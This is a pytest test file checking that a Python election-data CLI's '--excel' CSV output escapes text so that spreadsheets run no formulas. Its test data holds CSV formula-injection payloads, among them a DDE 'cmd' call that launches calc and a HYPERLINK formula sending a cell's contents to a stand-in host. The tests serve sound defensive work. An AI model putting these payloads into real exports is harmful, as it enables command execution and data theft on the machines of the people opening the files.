"""`--excel`: a spreadsheet shows each text as it is and runs none of them; numbers stay numbers, and -f csv is as it was."""

import csv
import io
import json
import re
import unicodedata
from datetime import UTC, date, datetime, time

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from pilkada_cli.output.excel import BOM, LONGEST, cell, guarded, is_misread, render_excel
from pilkada_cli.output.table import Screen, Table

FORMULA = re.compile(r'="((?:[^"]|"")*)"')
#: Texts that LibreOffice 7.4 and Excel take for something else, in an English or an Indonesian system.
MISREAD = [
    "11.10", "31.74", "007", "0812-0000-0000", "+62812", "12345678901234567", "3-4", "1/2", "1E5", "1e-3", "1d5", "12:30",
    "12:30 PM", "27 Nov", "Nov-24", "5 Mei", "27 November 2024", "Rabu, 27 November 2024", "MARCH1", "SEPT1", "50%",
    "Rp5", "$5", "(5)", "1 1/2", "1,5", "1.000,5", ".5", "5-", "½", "١٢٣", "TRUE", "benar", "SALAH ", "#N/A", "#REF!",
    "=1+1", "+1", "-1", "-", "@SUM(A1)", "\t=1+1", "\r=1", "\ntext", " =1+1", "\u00a0=1", "\u200b=1", "\ufeff=1", "\u202e=1",
    "＝1+1", "＋1", "－1", "＠x", "﹦1", "﹣1", "  @x", '=HYPERLINK("http://x.invalid/?"&A1,"klik")', "=cmd|' /C calc'!A0",
]  # fmt: skip
PLAIN = [
    "",
    "Surat suara kurang",
    "Surat suara kurang 40 lembar di TPS 5",
    "a=b",
    "x - y",
    "'x",
    "Truth",
    "dua + tiga",
    "😀",
]


@pytest.mark.parametrize("text", MISREAD)
def test_what_a_spreadsheet_takes_for_something_else_is_a_text_that_it_shows(text):
    assert is_misread(text)
    form = guarded(text)
    shown = FORMULA.fullmatch(form)
    assert shown[1].replace('""', '"') == text if shown else form == f"'{text}"
    assert bool(shown) == (not re.search(r"[\t\r\n]", text))


@pytest.mark.parametrize("text", PLAIN)
def test_other_texts_are_as_they_are(text):
    assert cell(text) == text


@pytest.mark.parametrize(
    ("value", "comma", "semicolon"),
    [
        (7, "7", "7"), (-7, "-7", "-7"), (1.5, "1.5", "1,5"), (-0.1, "-0.1", "-0,1"), (True, "true", "true"),
        (None, "", ""), (date(2024, 11, 27), "2024-11-27", "2024-11-27"), (time(7), "07:00:00", "07:00:00"),
        (datetime(2024, 11, 27, tzinfo=UTC), '="2024-11-27T00:00:00+00:00"', '="2024-11-27T00:00:00+00:00"'),
        (12345678901234567, '="12345678901234567"', '="12345678901234567"'), (["31.74", "31.75"], '="31.74,31.75"', '="31.74,31.75"'),
        ({"note": "x"}, '{"note": "x"}', '{"note": "x"}'),
    ],
)  # fmt: skip
def test_numbers_and_dates_stay_what_they_are(value, comma, semicolon):
    assert (cell(value, ","), cell(value, ";")) == (comma, semicolon)


def test_a_text_too_long_for_a_formula_of_excel_has_an_apostrophe():
    assert guarded("=" + "x" * (LONGEST - 1)) == '="={}"'.format("x" * (LONGEST - 1))
    assert guarded("=" + "x" * LONGEST) == "'=" + "x" * LONGEST
    # Excel counts an emoji as two.
    assert guarded("=" + "😀" * 127).startswith('="')
    assert guarded("=" + "😀" * 128).startswith("'=")


@pytest.mark.parametrize(
    ("text", "safe"),
    [
        ("x;=cmd|' /C calc'!A0", "x;'=cmd|' /C calc'!A0"), ('x; "=A1', "x;' \"=A1"), ("x,@SUM(1)", "x,'@SUM(1)"),
        ("x\n=1+1", "x\n'=1+1"), ("x;-2+cmd|'a'!A0", "x;'-2+cmd|'a'!A0"), ("x;＝1", "x;'＝1"),
        ("jam enam; - satu lagi", "jam enam; - satu lagi"), ("a\n- satu\n- dua", "a\n- satu\n- dua"), ("a,b;c", "a,b;c"),
    ],
)  # fmt: skip
def test_nothing_in_a_text_becomes_a_formula_where_the_cells_are_parted_elsewhere(text, safe):
    form = guarded(text)
    shown = FORMULA.fullmatch(form)
    assert (shown[1].replace('""', '"') if shown else form) == safe


def begins_a_formula(field: str) -> bool:
    bare = field.lstrip("".join(one for one in set(field) if unicodedata.category(one)[0] in "ZC"))
    return unicodedata.normalize("NFKC", bare[:1])[:1] in tuple("=@") and not FORMULA.fullmatch(field)


@example(["\ud7fc=", "\ue000=1"], ",")
@given(st.lists(st.text(max_size=30), min_size=1, max_size=5), st.sampled_from([",", ";"]))
def test_whatever_is_written_is_read_back_and_runs_nowhere(texts, separator):
    rows = [{"a": text, "b": 1.5} for text in texts]
    written = render_excel(Table(("a", "b"), rows), ("a", "b"), True, Screen(), separator)
    assert written.startswith(BOM)
    lines = list(csv.reader(io.StringIO(written.removeprefix(BOM), newline=""), delimiter=separator))
    assert lines[0] == ["a", "b"]
    for (own, number), text in zip(lines[1:], texts, strict=True):
        assert number == ("1,5" if separator == ";" else "1.5")
        assert own == cell(text)
        assert not begins_a_formula(own)
        found = FORMULA.fullmatch(own)
        inner = found[1].replace('""', '"') if found else own.removeprefix("'") if is_misread(text) else own
        assert re.sub(r"([;,\t\r\n|])'", r"\1", inner) == re.sub(r"([;,\t\r\n|])'", r"\1", text)


@given(st.lists(st.text(alphabet="x;,=@\"' \n|(", max_size=20), min_size=1, max_size=5))
def test_a_program_that_parts_the_cells_elsewhere_finds_no_formula(texts):
    rows = [{"a": text} for text in texts]
    for separator, other in ((",", ";"), (";", ",")):
        written = render_excel(Table(("a",), rows), ("a",), False, Screen(), separator).removeprefix(BOM)
        for line in csv.reader(io.StringIO(written, newline=""), delimiter=other):
            assert not any(begins_a_formula(field) for field in line[1:])


def test_the_options_of_a_list(run):
    plain = run("regions", "list", "-f", "csv", "--limit", "2", "--columns", "code,name,pairs").stdout_bytes
    assert plain == b"code,name,pairs\n11,Aceh,2\n11.01,Kabupaten Aceh Selatan,4\n"
    for more in ([], ["-f", "csv"]):
        own = run("regions", "list", "--excel", "--limit", "2", "--columns", "code,name,pairs", *more).stdout_bytes
        assert own == (b'\xef\xbb\xbfcode,name,pairs\r\n"=""11""",Aceh,2\r\n"=""11.01""",Kabupaten Aceh Selatan,4\r\n')
    bare = run(
        "regions", "list", "--excel", "--separator", ";", "--limit", "1", "--columns", "code,pairs", "--no-header"
    )
    assert bare.stdout_bytes == b'\xef\xbb\xbf"=""11""";2\r\n'


@pytest.mark.parametrize(
    ("arguments", "said"),
    [
        (["--excel", "-f", "json"], "--excel is a form of csv; give it alone or with -f csv."),
        (["--excel", "-f", "table"], "--excel is a form of csv; give it alone or with -f csv."),
        (["--excel", "--json", "code"], "--excel is a form of csv; give it alone or with -f csv."),
        (["--separator", ";"], "--separator parts the cells for a spreadsheet; it goes with --excel."),
        (["--excel", "--columns", "x,code"], "There is no column 'x' here"),
    ],
)  # fmt: skip
def test_what_does_not_go_together_is_refused(run, arguments, said):
    result = run("regions", "list", *arguments)
    assert (result.exit_code, result.stdout) == (2, "")
    assert result.stderr.startswith(f"pilkada: {said}")
    assert result.stderr.count("\n") == 1


def test_a_file_that_is_written_back_is_no_list(run):
    refused = run("regions", "find", "-", "--column", "x", "--excel", stdin="x\nAceh\n")
    assert (refused.exit_code, refused.stdout) == (2, "")
    assert "--excel and --separator are for lists" in refused.stderr


def test_every_list_takes_it(run, tmp_path, monkeypatch):
    monkeypatch.setenv("PILKADA_POSKO", str(tmp_path / "posko.db"))
    monkeypatch.setenv("PILKADA_BY", "rini")
    run("posko", "open", "31")
    run("posko", "report", "=1+1", "--category", "LOG")
    for words in ("posko incidents", "posko log", "posko members list", "posko plan list", "posko words", "stages list",
                  "checklist", "elections list", "contests list", "sources 31", "map"):  # fmt: skip
        result = run(*words.split(), "--excel")
        assert (result.exit_code, result.stderr) == (0, ""), words
        assert result.stdout.startswith(BOM), words
        rows = csv.DictReader(io.StringIO(result.stdout.removeprefix(BOM), newline=""))
        assert len(list(rows)) == len(json.loads(run(*words.split(), "-f", "json").stdout)), words
    assert '"=""=1+1"""' in run("posko", "incidents", "--excel").stdout
